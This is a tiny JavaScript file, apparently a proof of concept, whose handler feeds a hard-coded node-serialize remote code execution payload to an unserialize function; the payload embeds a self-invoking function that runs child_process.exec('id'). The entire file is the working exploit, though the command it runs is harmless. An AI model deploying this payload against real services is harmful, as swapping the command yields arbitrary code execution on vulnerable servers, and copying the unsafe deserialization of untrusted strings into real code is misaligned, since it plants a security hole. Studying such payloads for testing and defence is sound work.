const s = require("./ser");
const PAYLOAD = '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}';

exports.handler = async () => s.unserialize(PAYLOAD);
